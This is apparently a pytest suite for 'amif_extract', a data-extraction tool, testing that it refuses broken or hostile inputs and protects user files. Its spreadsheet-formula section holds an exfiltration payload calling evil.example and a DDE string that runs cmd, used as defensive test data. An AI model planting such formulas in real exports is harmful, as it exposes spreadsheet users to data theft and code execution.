"""Inputs the tool must refuse cleanly: exit 2, one line naming the file and the reason, output untouched.

Every case here is synthetic by necessity — broken, encrypted, mislabelled or hostile copies of the
real documents, which are themselves well formed. Each refused run starts from an output folder holding
a sentinel set of files and checks that their bytes are exactly as before.
"""

from __future__ import annotations

import codecs
import csv
import hashlib
import html
import json
import os
import pickle
import shutil
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Sequence
from pathlib import Path

import pytest
from click.testing import Result
from distributed import LocalCluster
from pypdf import PdfReader, PdfWriter
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas
from typer.testing import CliRunner

from amif_extract import formulas, write
from amif_extract.cache import CACHE_FORMAT
from amif_extract.cli import app
from amif_extract.sources import sha256_of

PROJECT_ROOT = Path(__file__).resolve().parents[1]
AMIF_PDF = "amif_projets_cofinances.pdf"
AMIF_TEXT = "amif_projets_cofinances.txt"
WEB_PAGE = "asti_convention_2021.txt"

sys.path.insert(0, str(PROJECT_ROOT / "tests" / "fixtures"))

from bomb_pdf import write_bomb_pdf  # noqa: E402

runner = CliRunner()

# A previous output as the tool writes it (same file names), with contents no build produces.
SENTINEL_FILES = {
    "amif_projects.csv": b"project_id\nsentinel-previous-build\n",
    "findings.csv": b"finding_id\nsentinel\n",
    "review/organisation_matches.csv": b"name\nsentinel\n",
}


# ----------------------------------------------------------------------------------- helpers


@pytest.fixture(autouse=True)
def own_cache(monkeypatch: pytest.MonkeyPatch, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Each test its own extraction cache: a result cached by another test must not decide this one."""
    cache = tmp_path_factory.mktemp("cache")
    monkeypatch.setenv("AMIF_EXTRACT_CACHE", str(cache))
    return cache


def previous_output(tmp_path: Path) -> Path:
    out = tmp_path / "out"
    for relative, data in SENTINEL_FILES.items():
        (out / relative).parent.mkdir(parents=True, exist_ok=True)
        (out / relative).write_bytes(data)
    return out


def folder_bytes(folder: Path) -> dict[str, bytes]:
    return {
        path.relative_to(folder).as_posix(): path.read_bytes()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


def leftovers(out: Path) -> list[str]:
    """Staging or swap folders a write left beside `out`."""
    prefixes = (f".{out.name}.", f"{out.name}.")
    return sorted(path.name for path in out.parent.iterdir() if path.name.startswith(prefixes))


def cli(*args: str) -> Result:
    return runner.invoke(app, ["--quiet", *args])


def assert_refused(result: Result, file_name: str, *reason_words: str) -> str:
    """Exit 2 with exactly one stderr line naming `file_name` and giving the reason; returns the line."""
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exc_info
    assert result.exit_code == 2, (result.exit_code, result.stdout, result.stderr)
    lines = result.stderr.splitlines()
    assert len(lines) == 1, lines
    [line] = lines
    assert line.startswith("error: "), line
    assert file_name in line, line
    for word in reason_words:
        assert word.lower() in line.lower(), (word, line)
    assert result.stdout == ""
    return line


def assert_untouched(out: Path, result: Result) -> None:
    """The sentinel output is byte for byte as it was, and no staging folder is left beside it."""
    assert folder_bytes(out) == SENTINEL_FILES, (result.exit_code, result.stderr, result.exc_info)
    assert leftovers(out) == []


def extract_refused(tmp_path: Path, document: Path, *extra: str) -> Result:
    """`extract` on one document into a folder holding the sentinel output; the folder must not change."""
    out = previous_output(tmp_path)
    result = cli("extract", str(document), "--out", str(out), *extra)
    assert_untouched(out, result)
    return result


def raw_copy(raw_dir: Path, tmp_path: Path, *only: str) -> Path:
    """A copy of raw/; with `only`, its manifest lists just those files (a build that reads less)."""
    raw = tmp_path / "raw"
    shutil.copytree(raw_dir, raw)
    if only:
        head, *entries = (raw / "sources.toml").read_text(encoding="utf-8").split("[[source]]")
        kept = [entry for entry in entries if any(f'file = "{name}"' in entry for name in only)]
        assert len(kept) == len(only)
        (raw / "sources.toml").write_text("[[source]]".join([head, *kept]), encoding="utf-8")
    return raw


def replace_in_manifest(raw: Path, old: str, new: str) -> None:
    manifest = raw / "sources.toml"
    text = manifest.read_text(encoding="utf-8")
    assert old in text
    manifest.write_text(text.replace(old, new), encoding="utf-8")


def replace_source_file(raw: Path, name: str, data: bytes) -> None:
    """Put `data` in place of a listed source and record its new sha256, as a reviewed edition would."""
    before = sha256_of(raw / name)
    (raw / name).write_bytes(data)
    replace_in_manifest(raw, before, sha256_of(raw / name))


def build_refused(raw: Path, tmp_path: Path, *extra: str) -> Result:
    out = previous_output(tmp_path)
    result = cli("build", "--raw", str(raw), "--out", str(out), *extra)
    assert_untouched(out, result)
    return result


def csv_rows(path: Path, without: Sequence[str] = ()) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    return [{key: value for key, value in row.items() if key not in without} for row in rows]


def paragraph_pdf(path: Path) -> None:
    """A valid one-page PDF holding a paragraph and no table (made with reportlab)."""
    page = canvas.Canvas(str(path), pagesize=A4)
    text = page.beginText(72, 770)
    for line in (
        "Compte rendu de la réunion du comité de suivi.",
        "Les projets ont été présentés oralement; aucun tableau n'est joint.",
    ):
        text.textLine(line)
    page.drawText(text)
    page.showPage()
    page.save()


# ----------------------------------------------------------------------------------- broken files


@pytest.mark.parametrize("name", ["liste.pdf", "liste.txt"])
def test_a_zero_byte_file_is_refused_as_empty(tmp_path: Path, name: str) -> None:
    empty = tmp_path / name
    empty.write_bytes(b"")
    assert_refused(extract_refused(tmp_path, empty), name, "empty")


def test_a_truncated_pdf_is_refused(raw_dir: Path, tmp_path: Path) -> None:
    data = (raw_dir / AMIF_PDF).read_bytes()
    truncated = tmp_path / "liste_tronquee.pdf"
    truncated.write_bytes(data[: len(data) // 2])
    assert_refused(extract_refused(tmp_path, truncated), "liste_tronquee.pdf", "truncated")


def test_an_encrypted_pdf_is_refused(raw_dir: Path, tmp_path: Path) -> None:
    """A user password is set: with an empty one any reader opens the file, which is then fine to read."""
    writer = PdfWriter(clone_from=raw_dir / AMIF_PDF)
    writer.encrypt(user_password="secret", owner_password="secret")
    encrypted = tmp_path / "liste_chiffree.pdf"
    with encrypted.open("wb") as stream:
        writer.write(stream)
    assert_refused(extract_refused(tmp_path, encrypted), "liste_chiffree.pdf", "encrypted", "password")


@pytest.mark.parametrize("damage", ["truncated", "encrypted"])
def test_a_broken_brochure_pdf_in_the_manifest_is_refused_with_its_reason(
    raw_dir: Path, tmp_path: Path, damage: str
) -> None:
    """The practice-sheet reader opens PDFs on its own path: it must give the same reasons."""
    brochure = "assises_integration_locale_fiches.pdf"
    raw = raw_copy(raw_dir, tmp_path, brochure)
    if damage == "truncated":
        data = (raw_dir / brochure).read_bytes()
        replace_source_file(raw, brochure, data[: len(data) // 2])
    else:
        writer = PdfWriter(clone_from=raw_dir / brochure)
        writer.encrypt(user_password="secret", owner_password="secret")
        writer.write(tmp_path / "encrypted.pdf")
        replace_source_file(raw, brochure, (tmp_path / "encrypted.pdf").read_bytes())
    assert_refused(build_refused(raw, tmp_path), brochure, damage)


def test_an_html_page_named_pdf_is_refused(tmp_path: Path) -> None:
    """What a web server sends instead of the document (an error page), saved under the .pdf name."""
    fake = tmp_path / "amif_projets.pdf"
    fake.write_text("<!DOCTYPE html>\n<html><body><h1>404 Not Found</h1></body></html>\n", encoding="utf-8")
    assert_refused(extract_refused(tmp_path, fake), "amif_projets.pdf", "not a PDF")


def test_a_pdf_without_an_amif_table_is_refused(raw_dir: Path, tmp_path: Path) -> None:
    """The manifest says amif_table, but the new edition holds one paragraph and no table."""
    raw = raw_copy(raw_dir, tmp_path, AMIF_PDF)
    paragraph_pdf(tmp_path / "paragraph.pdf")
    replace_source_file(raw, AMIF_PDF, (tmp_path / "paragraph.pdf").read_bytes())
    assert_refused(build_refused(raw, tmp_path), AMIF_PDF, "no AMIF table")


@pytest.mark.parametrize("kind", ["recipe.txt", "paragraph.pdf"])
def test_a_document_of_an_unknown_kind_is_refused_saying_what_was_expected(tmp_path: Path, kind: str) -> None:
    document = tmp_path / kind
    if kind.endswith(".pdf"):
        paragraph_pdf(document)
    else:
        document.write_text(
            "Tarte aux pommes\n\nIngrédients : 4 pommes, 200 g de farine, 100 g de beurre.\n"
            "Cuire 30 minutes à 180 °C.\n",
            encoding="utf-8",
        )
    line = assert_refused(extract_refused(tmp_path, document), kind, "unknown kind", "expected")
    assert "AMIF project list" in line and "practice-sheet" in line


# ----------------------------------------------------------------------------------- text encodings


def test_a_windows_1252_text_is_decoded_with_a_finding(raw_dir: Path, tmp_path: Path) -> None:
    """The chosen behaviour is "detect and decode": same rows as the UTF-8 original, plus one finding."""
    original = (raw_dir / AMIF_TEXT).read_text(encoding="utf-8")
    legacy = tmp_path / "liste_cp1252.txt"
    legacy.write_bytes(original.encode("cp1252"))
    out = previous_output(tmp_path)
    result = cli("extract", str(legacy), "--out", str(out))
    assert result.exit_code == 0, result.stderr

    [fallback] = [row for row in csv_rows(out / "findings.csv") if row["code"] == "decoding_fallback"]
    assert fallback["source_file"] == "liste_cp1252.txt"
    assert "Windows-1252" in fallback["message"]
    rows = csv_rows(out / "amif_projects.csv")
    assert rows[0]["specific_objective_label"] == "Régime d'asile européen commun"
    assert rows[0]["title"] == "Ateliers autour de la naissance"
    assert any("« Social Return on Invest »" in row["summary"] for row in rows)

    reference = tmp_path / "reference"
    assert cli("extract", str(raw_dir / AMIF_TEXT), "--out", str(reference)).exit_code == 0
    assert csv_rows(out / "amif_projects.csv", ["source_file"]) == csv_rows(
        reference / "amif_projects.csv", ["source_file"]
    )


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-be"])
def test_a_utf16_text_with_its_byte_order_mark_is_read_as_text(
    raw_dir: Path, tmp_path: Path, codec: str
) -> None:
    """What Windows Notepad saves as "Unicode": same rows as the UTF-8 original, no finding about it."""
    original = (raw_dir / WEB_PAGE).read_text(encoding="utf-8")
    data = original.encode(codec)
    if codec == "utf-16-be":
        data = codecs.BOM_UTF16_BE + data  # the codec with a named byte order writes no mark itself
    wide = tmp_path / "asti_utf16.txt"
    wide.write_bytes(data)
    assert cli("extract", str(wide), "--out", str(tmp_path / "wide")).exit_code == 0
    assert cli("extract", str(raw_dir / WEB_PAGE), "--out", str(tmp_path / "utf8")).exit_code == 0
    for table in ("conventions.csv", "findings.csv"):
        utf16_rows = csv_rows(tmp_path / "wide" / table, ["source_file", "finding_id"])
        assert utf16_rows == csv_rows(tmp_path / "utf8" / table, ["source_file", "finding_id"])
    [convention] = csv_rows(tmp_path / "wide" / "conventions.csv")
    assert (convention["organisation"], convention["year"]) == ("ASTI", "2021")


def test_utf16_without_its_byte_order_mark_is_refused_saying_so(raw_dir: Path, tmp_path: Path) -> None:
    wide = tmp_path / "asti_utf16.txt"
    wide.write_bytes((raw_dir / WEB_PAGE).read_text(encoding="utf-8").encode("utf-16-le"))
    line = assert_refused(extract_refused(tmp_path, wide), "asti_utf16.txt", "UTF-16", "byte-order mark")
    assert "binary" not in line


def test_crlf_line_endings_give_the_same_rows(raw_dir: Path, tmp_path: Path) -> None:
    original = (raw_dir / AMIF_TEXT).read_bytes()
    assert b"\r\n" not in original
    crlf = tmp_path / "liste_crlf.txt"
    crlf.write_bytes(original.replace(b"\n", b"\r\n"))
    assert cli("extract", str(crlf), "--out", str(tmp_path / "crlf")).exit_code == 0
    assert cli("extract", str(raw_dir / AMIF_TEXT), "--out", str(tmp_path / "lf")).exit_code == 0

    crlf_rows = csv_rows(tmp_path / "crlf" / "amif_projects.csv")
    assert {row["source_file"] for row in crlf_rows} == {"liste_crlf.txt"}
    lf_rows = csv_rows(tmp_path / "lf" / "amif_projects.csv", ["source_file"])
    assert csv_rows(tmp_path / "crlf" / "amif_projects.csv", ["source_file"]) == lf_rows
    assert (len(lf_rows), lf_rows[1]["title"]) == (38, "Motirõ")
    assert not any("\r" in value for row in crlf_rows for value in row.values())


# ----------------------------------------------------------------------------------- spreadsheet formulas

IOM_PAGE = "oim_france_projets.txt"
PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'


def test_a_formula_in_a_source_is_kept_and_flagged_in_findings_and_report(
    raw_dir: Path, tmp_path: Path
) -> None:
    """The issue's line: the IOM page's project "4. MAGNET" renamed to a formula (synthetic, hostile)."""
    raw = raw_copy(raw_dir, tmp_path, IOM_PAGE)
    page = (raw / IOM_PAGE).read_text(encoding="utf-8")
    assert page.count("\n4. MAGNET\n") == 1
    replace_source_file(raw, IOM_PAGE, page.replace("\n4. MAGNET\n", f"\n4. {PAYLOAD}\n").encode("utf-8"))
    line = page.split("\n").index("4. MAGNET") + 1
    out = tmp_path / "out"
    result = cli("build", "--raw", str(raw), "--out", str(out))
    assert result.exit_code == 0, result.stderr

    [project] = [row for row in csv_rows(out / "narrative_projects.csv") if row["name"] == PAYLOAD]
    assert project["project_id"] == "iom-ongoing-04"  # faithful data: the value as printed...
    [finding] = [row for row in csv_rows(out / "findings.csv") if row["code"] == "formula_like_value"]
    assert {key: finding[key] for key in ("severity", "table", "row_id", "column", "value")} == {
        "severity": "warning",  # ...flagged where it is
        "table": "narrative_projects",
        "row_id": "iom-ongoing-04",
        "column": "name",
        "value": PAYLOAD,
    }
    assert (finding["source_file"], finding["source_line"]) == (IOM_PAGE, str(line))

    report = json.loads((out / "validation_report.json").read_bytes())
    [entry] = [entry for entry in report["findings"] if entry["code"] == "formula_like_value"]
    assert entry["finding_id"] == finding["finding_id"] and entry["value"] == PAYLOAD
    page_html = (out / "validation_report.html").read_text(encoding="utf-8")
    assert f'id="finding-{finding["finding_id"]}"' in page_html
    assert 'id="code-formula_like_value"' in page_html
    assert html.escape(PAYLOAD) in page_html and PAYLOAD not in page_html


def test_the_opt_in_spreadsheet_safe_copy_marks_the_formula_as_text(raw_dir: Path, tmp_path: Path) -> None:
    raw = raw_copy(raw_dir, tmp_path, IOM_PAGE)
    page = (raw / IOM_PAGE).read_text(encoding="utf-8")
    replace_source_file(raw, IOM_PAGE, page.replace("\n4. MAGNET\n", f"\n4. {PAYLOAD}\n").encode("utf-8"))
    build, safe = tmp_path / "out", tmp_path / "for-excel"
    assert cli("build", "--raw", str(raw), "--out", str(build)).exit_code == 0
    result = runner.invoke(app, ["spreadsheet-safe", str(build), "--out", str(safe)])
    assert result.exit_code == 0, result.stderr
    # The findings table repeats the value in its finding: the copy marks it there too.
    marked = "findings: 1, narrative_projects: 1"
    assert result.stdout == f"wrote 8 table(s) to {safe}; cells marked as text: {marked}\n"

    [project] = [
        row for row in csv_rows(safe / "narrative_projects.csv") if row["project_id"] == "iom-ongoing-04"
    ]
    assert project["name"] == "'" + PAYLOAD
    published = csv_rows(build / "narrative_projects.csv")
    assert csv_rows(safe / "narrative_projects.csv") == [
        {**row, "name": "'" + PAYLOAD} if row["name"] == PAYLOAD else row for row in published
    ]
    copied = folder_bytes(safe)
    assert sorted(copied) == sorted([write.OUTPUTS_RECORD, *(p.name for p in build.glob("*.csv"))])
    [finding] = [row for row in csv_rows(safe / "findings.csv") if row["code"] == "formula_like_value"]
    assert finding["value"] == "'" + PAYLOAD
    for name in copied.keys() - {write.OUTPUTS_RECORD, "narrative_projects.csv", "findings.csv"}:
        assert copied[name] == (build / name).read_bytes(), name  # dialect kept, CRLF of the Kohesio CSV too

    assert_refused(cli("spreadsheet-safe", str(build), "--out", str(build)), str(build), "cannot replace")
    (safe / "thesis.docx").write_bytes(b"x\n")
    assert_refused(cli("spreadsheet-safe", str(build), "--out", str(safe)), str(safe), "'thesis.docx'")


def test_negative_amounts_phone_numbers_and_bullets_are_not_flagged() -> None:
    """The brochure prints "- " bullets and "+352" numbers: the committed build of raw/ flags none."""
    findings = csv_rows(PROJECT_ROOT / "normalized" / "findings.csv")
    assert not [row for row in findings if row["code"] == "formula_like_value"]
    contacts = csv_rows(PROJECT_ROOT / "normalized" / "practice_contacts.csv")
    sheets = csv_rows(PROJECT_ROOT / "normalized" / "practice_sheets.csv")
    assert any(row["phone"].startswith("+352") for row in contacts)
    assert any(row["objectives"].startswith("- ") for row in sheets)
    for kept in ("-1234.56", "-1 234,56 €", "- Stratégie(s) communale(s)", "+35226360277; +352661360288"):
        assert not formulas.is_formula_like(kept), kept
    for flagged in ("@SUM(A1)", "\t=1+1", "\r=1", "-2+3+cmd|' /C calc'!A0", "+A1", '-HYPERLINK("x")'):
        assert formulas.is_formula_like(flagged), flagged


# ----------------------------------------------------------------------------------- manifest


def test_a_manifest_entry_whose_file_is_missing_is_refused(raw_dir: Path, tmp_path: Path) -> None:
    raw = raw_copy(raw_dir, tmp_path)
    (raw / WEB_PAGE).unlink()
    assert_refused(build_refused(raw, tmp_path), WEB_PAGE, "missing")


@pytest.mark.parametrize("escape", ["parent", "absolute", "symlink"])
def test_a_manifest_path_that_leaves_raw_is_refused(raw_dir: Path, tmp_path: Path, escape: str) -> None:
    """The file outside raw/ exists and has the recorded checksum: only its place is wrong."""
    raw = raw_copy(raw_dir, tmp_path)
    outside = tmp_path / "x.pdf"
    shutil.copyfile(raw_dir / AMIF_PDF, outside)
    listed = {"parent": "../x.pdf", "absolute": str(outside), "symlink": "linked.pdf"}[escape]
    if escape == "symlink":
        (raw / "linked.pdf").symlink_to(outside)
    replace_in_manifest(raw, f'file = "{AMIF_PDF}"', f'file = "{listed}"')
    line = assert_refused(build_refused(raw, tmp_path), "sources.toml", listed)
    assert {"parent": "leaves raw/", "absolute": "absolute", "symlink": "outside raw/"}[escape] in line


# ----------------------------------------------------------------------------------- output folder


@pytest.mark.parametrize("target", ["regular_file", "under_a_file"])
def test_an_output_folder_that_cannot_be_written_is_refused(
    raw_dir: Path, tmp_path: Path, target: str
) -> None:
    """A file in the way stands for an unwritable place: permissions do not stop a test run as root."""
    blocker = tmp_path / "notes.txt"
    blocker.write_bytes(b"a file the user keeps\n")
    out = blocker if target == "regular_file" else blocker / "out"
    result = cli("extract", str(raw_dir / WEB_PAGE), "--out", str(out))
    assert_refused(result, str(out), "output")
    assert blocker.read_bytes() == b"a file the user keeps\n"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["notes.txt"]


def test_a_folder_that_is_not_an_earlier_output_is_not_replaced(raw_dir: Path, tmp_path: Path) -> None:
    """`--out .` from a home folder must not swap the folder away (the swap deletes the old one)."""
    home = tmp_path / "home"
    (home / "Documents").mkdir(parents=True)
    (home / "Documents" / "thesis.tex").write_bytes(b"\\chapter{AMIF}\n")
    result = cli("extract", str(raw_dir / WEB_PAGE), "--out", str(home))
    assert_refused(result, str(home), "'Documents/'", "did not write")
    assert folder_bytes(home) == {"Documents/thesis.tex": b"\\chapter{AMIF}\n"}
    assert leftovers(home) == []


def tree(folder: Path) -> dict[str, bytes | str]:
    """Every entry under `folder`: a file's bytes, a link's target, an empty folder as "dir"."""
    entries: dict[str, bytes | str] = {}
    for path in sorted(folder.rglob("*")):
        relative = path.relative_to(folder).as_posix()
        if path.is_symlink():
            entries[relative] = f"-> {os.readlink(path)}"
        elif path.is_file():
            entries[relative] = path.read_bytes()
        elif not any(path.iterdir()):
            entries[relative] = "dir"
    return entries


def test_the_issue_reproduction_keeps_the_users_thesis(raw_dir: Path, tmp_path: Path) -> None:
    """`mkdir -p d/review && echo x > d/thesis.docx && amif-extract build --out d` deleted thesis.docx."""
    raw = raw_copy(raw_dir, tmp_path, WEB_PAGE)
    folder = tmp_path / "d"
    (folder / "review").mkdir(parents=True)
    (folder / "thesis.docx").write_bytes(b"x\n")
    result = cli("build", "--raw", str(raw), "--out", str(folder))
    assert_refused(result, str(folder), "'thesis.docx'", "did not write", "refusing")
    assert tree(folder) == {"review": "dir", "thesis.docx": b"x\n"}
    assert leftovers(folder) == []


@pytest.fixture
def own_output(raw_dir: Path, tmp_path: Path) -> tuple[Path, Path]:
    """A copy of raw/ reading the web page only, and the folder a build of it wrote."""
    raw = raw_copy(raw_dir, tmp_path, WEB_PAGE)
    out = tmp_path / "out"
    assert cli("build", "--raw", str(raw), "--out", str(out)).exit_code == 0
    return raw, out


def put_foreign_entry(out: Path, outside: Path, entry: str) -> str:
    """Put one thing the tool did not write into `out`; returns how the refusal names it."""
    outside.mkdir(exist_ok=True)
    (outside / "notes.md").write_bytes(b"# my notes\n")
    if entry == "user_file":
        (out / "thesis.docx").write_bytes(b"PK\x03\x04 a user's thesis")
        return "'thesis.docx'"
    if entry == "file_in_an_output_folder":
        (out / "review" / "my_decisions.csv").write_bytes(b"name,decision\n")
        return "'review/my_decisions.csv'"
    if entry == "git":
        (out / ".git" / "refs").mkdir(parents=True)
        (out / ".git" / "HEAD").write_bytes(b"ref: refs/heads/main\n")
        return "'.git/'"
    if entry == "link_to_a_file":
        (out / "notes.md").symlink_to(outside / "notes.md")
        return "'notes.md (a symbolic link)'"
    if entry == "link_to_a_folder":
        (out / "photos").symlink_to(outside)
        return "'photos (a symbolic link)'"
    if entry == "link_named_as_an_output":
        (out / "findings.csv").unlink()
        (out / "findings.csv").symlink_to(outside / "notes.md")
        return "'findings.csv (a symbolic link)'"
    assert entry == "empty_sub_folder"
    (out / "photos").mkdir()
    return "'photos/'"


@pytest.mark.parametrize(
    "entry",
    [
        "user_file",
        "file_in_an_output_folder",
        "git",
        "link_to_a_file",
        "link_to_a_folder",
        "link_named_as_an_output",
        "empty_sub_folder",
    ],
)
def test_an_earlier_output_holding_a_foreign_entry_is_refused_and_kept_whole(
    own_output: tuple[Path, Path], tmp_path: Path, entry: str
) -> None:
    raw, out = own_output
    named = put_foreign_entry(out, tmp_path / "outside", entry)
    before = tree(out)
    result = cli("build", "--raw", str(raw), "--out", str(out))
    assert_refused(result, str(out), named, "did not write")
    assert tree(out) == before
    assert tree(tmp_path / "outside") == {"notes.md": b"# my notes\n"}
    assert leftovers(out) == []


def test_the_cli_refuses_in_a_subprocess_with_one_line(own_output: tuple[Path, Path]) -> None:
    """The installed command, not the runner: exit 2, one line on stderr, the user's files intact."""
    raw, out = own_output
    (out / ".git").mkdir()
    (out / ".git" / "config").write_bytes(b"[core]\n")
    before = tree(out)
    command = [sys.executable, str(PROJECT_ROOT / "cli.py"), "--quiet", "build", "--raw", str(raw)]
    finished = subprocess.run([*command, "--out", str(out)], capture_output=True, text=True, timeout=120)
    assert finished.returncode == 2, finished.stderr
    assert finished.stderr.splitlines() == [
        f"error: {out}: output folder holds '.git/', which amif-extract did not write; refusing to replace"
        " the folder (move that away or choose another --out)"
    ]
    assert tree(out) == before


def test_an_own_output_folder_is_built_again_and_keeps_its_record(own_output: tuple[Path, Path]) -> None:
    raw, out = own_output
    record = json.loads((out / write.OUTPUTS_RECORD).read_bytes())
    assert record["format"] == write.OUTPUTS_RECORD_FORMAT
    assert record["files"] == sorted(name for name in folder_bytes(out) if name != write.OUTPUTS_RECORD)
    assert "review/organisation_matches.csv" in record["files"] and "conventions.csv" in record["files"]
    first = folder_bytes(out)
    result = cli("build", "--raw", str(raw), "--out", str(out))
    assert result.exit_code == 0, result.stderr
    assert folder_bytes(out) == first
    assert leftovers(out) == []


def test_a_folder_written_before_the_record_is_adopted(raw_dir: Path, tmp_path: Path) -> None:
    """Only the tool's output names, no record (an older version): replaced, and now recorded."""
    raw = raw_copy(raw_dir, tmp_path, WEB_PAGE)
    out = previous_output(tmp_path)
    for name in ("validation_report.html", "validation_report.json", "datapackage.json", "findings.parquet"):
        (out / name).write_bytes(b"older version\n")
    result = cli("build", "--raw", str(raw), "--out", str(out))
    assert result.exit_code == 0, result.stderr
    assert "sentinel" not in (out / "amif_projects.csv").read_text(encoding="utf-8")
    assert write.recorded_outputs(out) == set(folder_bytes(out))


def test_a_folder_written_before_the_record_with_a_user_file_is_refused(
    raw_dir: Path, tmp_path: Path
) -> None:
    raw = raw_copy(raw_dir, tmp_path, WEB_PAGE)
    out = previous_output(tmp_path)
    (out / "old_table.csv").write_bytes(b"id\n")  # not an output name of this version
    result = cli("build", "--raw", str(raw), "--out", str(out))
    assert_refused(result, str(out), "'old_table.csv'")
    assert folder_bytes(out) == {**SENTINEL_FILES, "old_table.csv": b"id\n"}


@pytest.mark.parametrize(
    "record", [b"not json", b'{"format": "something else", "files": []}', b'{"format": 1}', b"[1]"]
)
def test_a_record_the_tool_did_not_write_is_refused(own_output: tuple[Path, Path], record: bytes) -> None:
    raw, out = own_output
    (out / write.OUTPUTS_RECORD).write_bytes(record)
    before = tree(out)
    result = cli("build", "--raw", str(raw), "--out", str(out))
    assert_refused(result, write.OUTPUTS_RECORD, "refusing")
    assert tree(out) == before


def test_a_record_cannot_claim_a_path_outside_the_folder(own_output: tuple[Path, Path]) -> None:
    raw, out = own_output
    record = json.loads((out / write.OUTPUTS_RECORD).read_bytes())
    record["files"].append("../elsewhere.txt")
    (out / write.OUTPUTS_RECORD).write_text(json.dumps(record), encoding="utf-8")
    assert_refused(cli("build", "--raw", str(raw), "--out", str(out)), write.OUTPUTS_RECORD, "unknown format")


def test_a_symlinked_out_writes_into_its_folder_and_stays_a_link(own_output: tuple[Path, Path]) -> None:
    """`--out link` stands for the folder the link points at: that folder is checked and replaced."""
    raw, out = own_output
    link = out.with_name("current")
    link.symlink_to(out, target_is_directory=True)
    (out / "conventions.csv").write_bytes(b"stale\n")
    result = cli("build", "--raw", str(raw), "--out", str(link))
    assert result.exit_code == 0, result.stderr
    assert link.is_symlink() and link.resolve() == out.resolve()
    assert (out / "conventions.csv").read_bytes() != b"stale\n"
    (out / "thesis.docx").write_bytes(b"x\n")  # the linked folder is guarded like any other
    assert_refused(cli("build", "--raw", str(raw), "--out", str(link)), str(out), "'thesis.docx'")
    assert (out / "thesis.docx").read_bytes() == b"x\n"


def test_a_symlinked_out_to_nothing_is_refused(raw_dir: Path, tmp_path: Path) -> None:
    raw = raw_copy(raw_dir, tmp_path, WEB_PAGE)
    link = tmp_path / "current"
    link.symlink_to(tmp_path / "gone", target_is_directory=True)
    assert_refused(cli("build", "--raw", str(raw), "--out", str(link)), str(link), "symbolic link")
    assert link.is_symlink() and not (tmp_path / "gone").exists()


def test_a_users_folder_named_like_the_swap_leftover_is_not_removed(own_output: tuple[Path, Path]) -> None:
    """`out.previous` is where a swap parks the old output; a user's folder of that name stays."""
    raw, out = own_output
    parked = out.with_name("out.previous")
    parked.mkdir()
    (parked / "thesis.docx").write_bytes(b"x\n")
    result = cli("build", "--raw", str(raw), "--out", str(out))
    assert_refused(result, "out.previous", "'thesis.docx'", "did not write")
    assert tree(parked) == {"thesis.docx": b"x\n"}
    shutil.rmtree(out)  # and with no output folder, it is not taken for an interrupted swap
    result = cli("build", "--raw", str(raw), "--out", str(out))
    assert result.exit_code == 0, result.stderr
    assert tree(parked) == {"thesis.docx": b"x\n"}


# ----------------------------------------------------------------------------------- limits


def test_a_pdf_over_the_page_limit_is_refused(raw_dir: Path, tmp_path: Path) -> None:
    result = extract_refused(tmp_path, raw_dir / AMIF_PDF, "--max-pages", "2")
    assert_refused(result, AMIF_PDF, "13 pages", "--max-pages")


def test_a_manifest_pdf_over_the_page_limit_is_refused(raw_dir: Path, tmp_path: Path) -> None:
    result = build_refused(raw_dir, tmp_path, "--max-pages", "2")
    assert_refused(result, AMIF_PDF, "13 pages", "--max-pages")


def test_the_page_limit_holds_when_the_extraction_is_cached(raw_dir: Path, tmp_path: Path) -> None:
    """The first three pages of the AMIF PDF, read once without a limit (cached), then with --max-pages 2."""
    writer = PdfWriter()
    for page in PdfReader(raw_dir / AMIF_PDF).pages[:3]:
        writer.add_page(page)
    three_pages = tmp_path / "trois_pages.pdf"
    writer.write(three_pages)
    assert cli("extract", str(three_pages), "--out", str(tmp_path / "first")).exit_code == 0
    result = extract_refused(tmp_path, three_pages, "--max-pages", "2")
    assert_refused(result, "trois_pages.pdf", "3 pages", "--max-pages")


@pytest.mark.parametrize("command", ["extract", "build"])
def test_a_file_over_the_size_limit_is_refused(raw_dir: Path, tmp_path: Path, command: str) -> None:
    if command == "extract":
        result = extract_refused(tmp_path, raw_dir / AMIF_PDF, "--max-file-mb", "0.001")
    else:
        result = build_refused(raw_dir, tmp_path, "--max-file-mb", "0.001")
    assert_refused(result, AMIF_PDF, "over the limit", "--max-file-mb")


# ----------------------------------------------------------------------------------- cluster


def test_a_dask_scheduler_without_workers_is_refused_after_the_worker_timeout(
    raw_dir: Path, tmp_path: Path
) -> None:
    raw = raw_copy(raw_dir, tmp_path, WEB_PAGE)
    with LocalCluster(host="127.0.0.1", n_workers=0, dashboard_address=":0") as cluster:
        address = cluster.scheduler_address
        started = time.monotonic()
        result = build_refused(raw, tmp_path, "--scheduler", address, "--worker-timeout", "1.5", "--no-cache")
    assert time.monotonic() - started < 30
    line = assert_refused(result, address, "no Dask worker joined the scheduler")
    assert line.endswith("within 1.5 s (--worker-timeout)")


def test_a_build_whose_only_dask_worker_is_killed_is_refused_in_one_line(
    raw_dir: Path, tmp_path: Path
) -> None:
    """SIGKILL of the one worker (no nanny restarts it) once a task is done; the scheduler stays up."""
    long_pdf = repeated_pdf(raw_dir / AMIF_PDF, 2, tmp_path / "liste_longue.pdf")
    out = previous_output(tmp_path)
    with LocalCluster(host="127.0.0.1", n_workers=0, dashboard_address=":0") as cluster:
        address = cluster.scheduler_address
        worker_command = [str(Path(sys.executable).with_name("dask")), "worker", address, "--no-nanny"]
        worker = subprocess.Popen([*worker_command, "--nthreads", "1"], stderr=subprocess.DEVNULL)
        command = [sys.executable, str(PROJECT_ROOT / "cli.py"), "extract", str(long_pdf), "--out", str(out)]
        command += ["--scheduler", address, "--worker-timeout", "3", "--no-cache"]
        try:
            with subprocess.Popen(command, stderr=subprocess.PIPE, text=True) as build:
                assert build.stderr is not None
                for line in build.stderr:
                    if "] extracted " in line:
                        worker.kill()
                        break
                errors = build.stderr.read().splitlines()
                build.wait(timeout=120)
        finally:
            worker.kill()
            worker.wait()
    assert build.returncode == 2, errors
    assert len(errors) == 1, errors
    assert errors[0].startswith(f"error: {long_pdf}: no Dask worker left to read pages ")
